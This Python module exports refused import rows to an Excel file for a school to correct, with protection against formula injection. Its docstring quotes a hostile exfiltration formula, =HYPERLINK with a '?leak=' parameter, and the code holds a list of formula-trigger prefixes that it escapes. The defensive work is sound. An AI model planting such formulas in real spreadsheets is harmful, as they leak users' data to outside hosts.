"""The refused rows of a list, written back as an .xlsx the school can correct and send again.

The school gets its own columns with the values as they came, plus why each
row was refused and in which cell. Columns of numbers that must stay text
(ID, phone, certificate numbers) are formatted as text, so that what the
school types there this time is not turned into a number again.

Every value that came as text is written as text, never as a formula: a cell
such as ``=HYPERLINK("http://…?leak="&B2)`` from a hostile list goes back as
the characters it was, marked as text (quote prefix), so opening the file runs
nothing. The file is written beside the target and renamed over it, and the
target is checked first (``export_problem``): a folder, a device such as
``/dev/full`` or a missing folder is refused before anything is imported.
"""

from __future__ import annotations

import os
import stat
import tempfile
from collections.abc import Sequence
from datetime import date, datetime, time, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font
from openpyxl.worksheet.worksheet import Worksheet

from clerk_app.domain.problems import Problem, problem
from clerk_app.importing.headings import ColumnMap

if TYPE_CHECKING:
    from clerk_app.importing.service import ImportRow

TEXT_FIELDS = ("id_number", "phone", "certificate_no")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADINGS = {"zh": ("未导入原因", "出错单元格", "原表行号"), "en": ("Reason not imported", "Cell", "Row in the list")}


def export_problem(path: Path) -> Problem | None:
    """Why the refused rows cannot be saved at ``path`` (checked before anything is imported), or None."""
    target = Path(path)
    folder = target.parent if str(target.parent) else Path(".")
    reason: tuple[str, str] | None = None
    try:
        mode = os.stat(target).st_mode if os.path.lexists(target) else None
        if mode is not None and stat.S_ISDIR(mode):
            reason = ("这是一个文件夹", "it is a folder")
        elif mode is not None and not stat.S_ISREG(mode):
            reason = ("这不是普通文件", "it is not a regular file")
        elif not folder.is_dir():
            reason = ("文件夹不存在", "the folder does not exist")
        else:
            with tempfile.TemporaryFile(dir=folder):
                pass
    except OSError as error:
        reason = (error.strerror or str(error), error.strerror or str(error))
    if reason is None:
        return None
    return problem("import_export_unwritable", "export_refused", path=str(target), reason=reason)


def write_refused(path: Path, columns: ColumnMap, rows: Sequence[ImportRow], lang: str = "zh") -> None:
    """The refused rows at ``path``, whole or not at all; raises OSError when it cannot be written."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "未导入" if lang == "zh" else "Not imported"
    width = len(columns.labels)
    _put_row(sheet, 1, [*columns.labels, *HEADINGS.get(lang, HEADINGS["zh"])])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    text_columns = [columns.columns[f] + 1 for f in TEXT_FIELDS if f in columns.columns]
    for line, row in enumerate(rows, start=2):
        _put_row(sheet, line, [*row.cells, row.reason(lang), row.first_cell() or "", row.number])
        for column in text_columns:
            cell = sheet.cell(row=line, column=column)
            cell.number_format = "@"
            if isinstance(cell.value, (int, float)):
                _put(sheet, line, column, f"{cell.value:.14G}" if isinstance(cell.value, float) else str(cell.value))
    for column in text_columns:
        sheet.column_dimensions[sheet.cell(row=1, column=column).column_letter].width = 22
    reason_column = sheet.cell(row=1, column=width + 1).column_letter
    sheet.column_dimensions[reason_column].width = 80
    for cell in sheet[reason_column][1:]:
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    _save(workbook, Path(path))


def _put_row(sheet: Worksheet, line: int, values: Sequence[object]) -> None:
    for column, value in enumerate(values, start=1):
        _put(sheet, line, column, value)


def _put(sheet: Worksheet, line: int, column: int, value: object) -> None:
    """One cell; text stays text (openpyxl would take "=…" for a formula), numbers and dates keep their type."""
    cell = sheet.cell(row=line, column=column)
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"
        if value[:1] in FORMULA_STARTS:
            cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
    elif value is not None:
        cell.value = value if isinstance(value, (int, float, date, datetime, time, timedelta)) else str(value)


def _save(workbook: Workbook, path: Path) -> None:
    """Written beside the target and renamed over it: a failed save leaves no half file (and no device replaced)."""
    handle, temporary = tempfile.mkstemp(dir=path.parent if str(path.parent) else ".", prefix=".export-", suffix=".xlsx")
    os.close(handle)
    try:
        workbook.save(temporary)
        os.replace(temporary, path)
    except BaseException:
        Path(temporary).unlink(missing_ok=True)
        raise
